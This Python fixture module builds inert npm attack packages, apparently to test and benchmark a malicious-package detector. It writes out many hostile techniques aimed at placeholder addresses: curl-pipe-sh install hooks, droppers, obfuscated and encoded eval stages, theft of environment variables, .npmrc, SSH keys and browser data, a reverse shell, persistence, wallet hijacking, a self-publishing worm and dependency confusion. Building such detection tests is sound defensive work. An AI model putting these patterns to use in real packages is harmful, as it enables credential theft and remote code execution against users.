"""Inert, hand-made npm attacks, one per technique, built in code (shared by the tests and
``tests/bench/bench_npm.py``). Every address is TEST-NET or ``.invalid``; nothing here is
ever run. Each attack names the capabilities a moderator must see at high or above."""

from __future__ import annotations

import base64
import io
import json
import tarfile
from collections.abc import Callable
from dataclasses import dataclass, field


@dataclass
class Attack:
    name: str
    files: dict[str, str]
    expect: set[str]  # capabilities that must be found at high or above
    scripts: dict[str, str] = field(default_factory=dict)
    version: str = "1.0.0"
    extra: dict = field(default_factory=dict)  # more package.json keys

    def tarball(self) -> bytes:
        doc = {
            "name": self.name,
            "version": self.version,
            "main": "index.js",
            "scripts": self.scripts,
        }
        doc.update(self.extra)
        members = {"package/package.json": json.dumps(doc, indent=2)}
        members.update({f"package/{p}": t for p, t in self.files.items()})
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w:gz") as tar:
            for path, text in members.items():
                data = text.encode("utf-8")
                info = tarfile.TarInfo(path)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
        return buf.getvalue()


def js_obfuscated(
    strings: list[str],
    body: Callable[[Callable[[str], str]], str],
    *,
    rotate: int = 3,
    offset: int = 0x1F0,
    encoding: str = "",
) -> str:
    """Code shaped like javascript-obfuscator's output: a string array rotated at start-up by a
    checksum loop, read through a hex-named accessor (optionally with its base64 encoding)."""
    nums = ["918273xKqB", "27364HgTr", "5540912pLmN"]
    arr = nums + list(strings)
    idx = {s: i + offset for i, s in enumerate(arr)}
    target = int(nums[0][:6]) + -int(nums[1][:5]) * 2 + int(nums[2][:7])
    stored = arr[-rotate:] + arr[:-rotate]  # `rotate` push(shift()) calls restore arr
    std = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/="
    obf = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/="

    def enc(s: str) -> str:
        if encoding != "base64":
            return s
        return base64.b64encode(s.encode()).decode().rstrip("=").translate(str.maketrans(std, obf))

    lits = ",".join("'" + enc(s).replace("'", "\\'") + "'" for s in stored)
    decoder = ""
    if encoding == "base64":
        decoder = (
            "const _0xa1='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';"
            "let _0xb2='';for(let i=0;i<_0x7e8f.length;i++){_0xb2+=_0xa1.indexOf(_0x7e8f[i]);}_0x7e8f=_0xb2;"
        )

    def h(s: str) -> str:
        return hex(idx[s])

    code = (
        f"function _0x1a2b(){{const _0x3c4d=[{lits}];_0x1a2b=function(){{return _0x3c4d;}};return _0x1a2b();}}"
        f"function _0x5e6f(_0x7a8b,_0x9c0d){{const _0x1e2f=_0x1a2b();return _0x5e6f=function(_0x3a4b,_0x5c6d)"
        f"{{_0x3a4b=_0x3a4b-{hex(offset)};let _0x7e8f=_0x1e2f[_0x3a4b];{decoder}return _0x7e8f;}},_0x5e6f(_0x7a8b,_0x9c0d);}}"
        f"(function(_0x11,_0x22){{const _0x33=_0x5e6f,_0x44=_0x11();while(!![]){{try{{const _0x55="
        f"parseInt(_0x33({h(nums[0])}))/0x1+-parseInt(_0x33({h(nums[1])}))/0x1*0x2+parseInt(_0x33({h(nums[2])}))/0x1;"
        f"if(_0x55===_0x22)break;else _0x44['push'](_0x44['shift']());}}catch(_0x66){{_0x44['push'](_0x44['shift']());}}}}}}"
        f"(_0x1a2b,{hex(target)}));"
    )
    return code + "const _0x2b=_0x5e6f;" + body(lambda s: f"_0x2b({hex(idx[s])})")


def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def _ps_encoded(s: str) -> str:
    return base64.b64encode(s.encode("utf-16-le")).decode()


_STAGE2 = "require('child_process').execSync('curl -s http://192.0.2.10/s2 | sh')"
_BENIGN_INDEX = "module.exports = function pad(s, n) { return String(s).padStart(n); };\n"


def attacks() -> list[Attack]:
    """One inert package per technique of the issue."""
    return [
        Attack(
            "att-preinstall-curl",
            {"index.js": _BENIGN_INDEX},
            {"process.shell_download"},
            {"preinstall": "curl -s http://192.0.2.1/i.sh | sh"},
        ),
        Attack(
            "att-postinstall-dropper",
            {
                "index.js": _BENIGN_INDEX,
                "install.js": "const { spawn } = require('child_process');\n"
                "const https = require('https'); const fs = require('fs'); const os = require('os');\n"
                "const p = os.tmpdir() + '/u.bin';\n"
                "https.get('http://192.0.2.2/u.bin', r => r.pipe(fs.createWriteStream(p)).on('finish', () => {\n"
                "  fs.chmodSync(p, 0o755); spawn(p, [], { detached: true, stdio: 'ignore' }).unref(); }));\n",
            },
            {"process.spawn_hidden", "net.outbound", "install.script_hook"},
            {"postinstall": "node install.js"},
        ),
        Attack(
            "att-eval-atob",
            {"index.js": f"eval(atob('{_b64(_STAGE2)}'));\n"},
            {"exec.decode_then_exec"},
        ),
        Attack(
            "att-obfuscator",
            {
                "index.js": js_obfuscated(
                    ["child_process", "execSync", "curl -s http://192.0.2.3/p | sh"],
                    lambda r: (
                        f"const _0xc=require({r('child_process')});_0xc[{r('execSync')}]({r('curl -s http://192.0.2.3/p | sh')});"
                    ),
                )
            },
            {"obf.packer", "exec.decode_then_exec"},
        ),
        Attack(
            "att-obfuscator-b64",
            {
                "index.js": js_obfuscated(
                    ["child_process", "exec", "curl -s http://192.0.2.4/p | sh"],
                    lambda r: (
                        f"require({r('child_process')})[{r('exec')}]({r('curl -s http://192.0.2.4/p | sh')});"
                    ),
                    encoding="base64",
                )
            },
            {"obf.packer", "exec.decode_then_exec"},
        ),
        Attack(
            "att-env-exfil",
            {
                "index.js": "const https = require('https');\nconst body = JSON.stringify(process.env);\n"
                "const req = https.request({ host: '198.51.100.5', method: 'POST', path: '/c' });\nreq.end(body);\n"
            },
            {"cred.env_bulk"},
            {"postinstall": "node index.js"},
        ),
        Attack(
            "att-secret-files",
            {
                "index.js": "const fs = require('fs'), os = require('os'), path = require('path');\n"
                "const home = os.homedir();\nconst npmrc = fs.readFileSync(path.join(home, '.npmrc'), 'utf8');\n"
                "const key = fs.readFileSync(path.join(home, '.ssh', 'id_rsa'), 'utf8');\n"
                "fetch('http://203.0.113.9/k', { method: 'POST', body: npmrc + key });\n"
            },
            {"cred.secret_files"},
        ),
        Attack(
            "att-discord-browser",
            {
                "index.js": "const fs = require('fs'); const path = require('path');\n"
                "const ldb = path.join(process.env.APPDATA, 'discord', 'Local Storage', 'leveldb');\n"
                "const cookies = path.join(process.env.LOCALAPPDATA, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data');\n"
                "for (const f of fs.readdirSync(ldb)) { fs.readFileSync(path.join(ldb, f)); }\nfs.readFileSync(cookies);\n"
                "require('https').request('https://198.51.100.7/d').end();\n"
            },
            {"cred.browser_data", "cred.secret_files"},
        ),
        Attack(
            "att-persistence",
            {
                "index.js": "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
                "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\ncurl -s http://192.0.2.11/b | sh\\n');\n"
                "fs.writeFileSync(os.homedir() + '/Library/LaunchAgents/com.update.plist', '<plist/>');\n"
            },
            {"persist.autostart"},
        ),
        Attack(
            "att-wallet-hijack",
            {
                "index.js": _BENIGN_INDEX
                + "const addrs = ['0x1111111111111111111111111111111111111111', '0x2222222222222222222222222222222222222222',\n"
                "  '0x3333333333333333333333333333333333333333', 'bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh'];\n"
                "const of = window.fetch;\nwindow.fetch = async function (...a) { const r = await of(...a); return swap(r); };\n"
                "if (window.ethereum) { const orig = window.ethereum.request;\n"
                "  window.ethereum.request = function (args) { args.params[0].to = addrs[0]; return orig.call(this, args); }; }\n"
                "function swap(t) { return String(t).replace(/0x[a-fA-F0-9]{40}/g, addrs[0]); }\n"
            },
            {"hijack.wallet_swap", "hijack.browser_api"},
        ),
        Attack(
            "att-worm",
            {
                "index.js": "const fs = require('fs'); const os = require('os'); const { execSync } = require('child_process');\n"
                "const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
                "const token = process.env.NPM_TOKEN || rc.split('_authToken=')[1];\n"
                "execSync('npm publish --access public', { env: { ...process.env, NODE_AUTH_TOKEN: token } });\n"
            },
            {"worm.self_publish", "cred.secret_files"},
            {"postinstall": "node index.js"},
        ),
        Attack(
            "att-reverse-shell",
            {
                "index.js": "const net = require('net'); const cp = require('child_process');\n"
                "const sh = cp.spawn('/bin/sh', []); const client = new net.Socket();\n"
                "client.connect(4444, '192.0.2.12', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });\n"
            },
            {"net.reverse_shell"},
        ),
        Attack(
            "att-remote-eval",
            {
                "index.js": "const https = require('https');\n"
                "https.get('https://192.0.2.13/payload.js', (res) => { let d = ''; res.on('data', (c) => (d += c));\n"
                "  res.on('end', () => { eval(d); }); });\n"
            },
            {"exec.remote_code"},
        ),
        Attack(
            "att-dns-exfil",
            {
                "index.js": "const dns = require('dns'); const os = require('os');\n"
                "const id = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');\n"
                "dns.lookup(`${id}.x.example.invalid`, () => {});\n"
            },
            {"net.dns_exfil"},
            {"preinstall": "node index.js"},
        ),
        Attack(
            "att-self-delete",
            {
                "index.js": _BENIGN_INDEX,
                "setup.js": "const fs = require('fs'); const os = require('os'); const cp = require('child_process');\n"
                "const names = ['vmware', 'virtualbox', 'sandbox', 'malware', 'wireshark'];\n"
                "if (os.cpus().length < 2 || names.some((n) => os.hostname().toLowerCase().includes(n))) process.exit(0);\n"
                "cp.exec('curl -s http://192.0.2.14/x | sh');\nfs.unlinkSync(__filename);\n",
            },
            {"evasion.self_delete", "process.shell_download"},
            {"postinstall": "node setup.js"},
        ),
        Attack(
            "att-concat-names",
            {
                "index.js": "const r = global['req' + 'uire'];\nr('child_' + 'process')['ex' + 'ec']('curl -s http://192.0.2.15/c | sh');\n"
            },
            {"obf.packer", "process.shell_download"},
        ),
        Attack(
            "att-fromcharcode",
            {
                "index.js": "const f = String.fromCharCode("
                + ",".join(str(ord(c)) for c in _STAGE2)
                + ");\nnew Function(f)();\n"
            },
            {"exec.decode_then_exec"},
        ),
        Attack(
            "att-hex-escapes",
            {
                "index.js": "const m = require('\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73');\n"
                "m['\\x65\\x78\\x65\\x63']('\\x63\\x75\\x72\\x6c\\x20http://192.0.2.16/h\\x20|\\x20sh');\n"
            },
            {"obf.packer", "process.shell_download"},
        ),
        Attack(
            "att-hex-buffer-function",
            {
                "index.js": f"Function(Buffer.from('{_STAGE2.encode().hex()}', 'hex').toString())();\n"
            },
            {"exec.decode_then_exec"},
        ),
        Attack(
            "att-powershell-encoded",
            {"index.js": _BENIGN_INDEX},
            {"process.shell_download"},
            {
                "postinstall": "powershell -NoP -W Hidden -EncodedCommand "
                + _ps_encoded(
                    "iwr http://192.0.2.17/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe"
                )
            },
        ),
        Attack(
            "att-shell-dropper",
            {
                "index.js": _BENIGN_INDEX,
                "scripts/init.sh": "#!/bin/sh\nwget -q -O- http://192.0.2.18/i | sh\n",
            },
            {"process.shell_download"},
            {"postinstall": "sh scripts/init.sh"},
        ),
        Attack(
            "att-dependency-confusion",
            {
                "index.js": "const os = require('os'); const https = require('https');\n"
                "https.get('https://198.51.100.19/?h=' + os.hostname() + '&u=' + os.userInfo().username);\n"
            },
            {"meta.dependency_confusion"},
            {"preinstall": "node index.js"},
            version="99.10.0",
            extra={"name": "@acme-corp/internal-auth"},
        ),
        Attack(
            "att-typescript",
            {
                "index.ts": "import { execSync } from 'child_process';\nconst c: string = 'curl -s http://192.0.2.20/t | bash';\nexecSync(c);\n"
            },
            {"process.shell_download"},
        ),
        Attack(
            "att-bin-shadow-url-dep",
            {
                "index.js": _BENIGN_INDEX,
                "bin/npm.js": "#!/usr/bin/env node\nrequire('child_process').execSync('curl -s http://192.0.2.21/n | sh');\n",
            },
            {"meta.url_dependency", "process.shell_download"},
            extra={
                "bin": {"npm": "bin/npm.js"},
                "dependencies": {"helper": "http://192.0.2.21/helper.tgz"},
            },
        ),
    ]
